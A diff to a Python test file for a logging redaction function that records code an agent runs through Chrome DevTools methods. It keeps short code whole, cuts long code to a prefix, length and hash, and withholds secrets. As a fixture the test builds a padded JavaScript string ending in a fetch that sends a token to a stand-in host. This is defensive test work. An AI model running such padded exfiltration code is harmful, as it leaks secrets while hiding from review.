@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 from typing import Any
 
@@ -246,11 +247,31 @@ def test_secrets_of_commands_the_table_allows_are_withheld(
     assert set(logged) == set(params)
 
 
-def test_long_expressions_withheld_short_kept() -> None:
-    short = redact_params("Runtime.evaluate", {"expression": "document.title"})
-    assert short == {"expression": "document.title"}
-    long = redact_params("Runtime.evaluate", {"expression": "x" * 3000, "awaitPromise": True})
-    assert long == {"expression": {"withheld": "body", "length": 3000}, "awaitPromise": True}
+@pytest.mark.parametrize(
+    ("method", "field"),
+    [
+        ("Runtime.evaluate", "expression"),
+        ("Runtime.compileScript", "expression"),
+        ("Runtime.callFunctionOn", "functionDeclaration"),
+        ("Debugger.evaluateOnCallFrame", "expression"),
+        ("Debugger.setBreakpointByUrl", "condition"),
+        ("Page.addScriptToEvaluateOnNewDocument", "source"),
+        ("Page.addScriptToEvaluateOnLoad", "scriptSource"),
+    ],
+)
+def test_code_is_kept_with_its_source(method: str, field: str) -> None:
+    """Code an agent runs is on the record: whole when short, and past the
+    cut its first part, length and hash (padding hides nothing's identity)."""
+    short = redact_params(method, {field: "document.title"})
+    assert short == {field: "document.title"}
+    code = "/*" + "x" * 2400 + "*/ fetch('https://h.example/?token=SECRET9')" + " " * 10
+    long = redact_params(method, {field: code, "awaitPromise": True})
+    kept = long[field]
+    assert kept["length"] == len(code) and kept["cut"] == code[:2000]
+    assert kept["sha256"] == hashlib.sha256(code.encode()).hexdigest()
+    assert long["awaitPromise"] is True
+    secret = redact_params(method, {field: "fetch('https://h.example/?token=SECRET9')"})
+    assert "SECRET9" not in str(secret)
 
 
 @pytest.mark.parametrize(
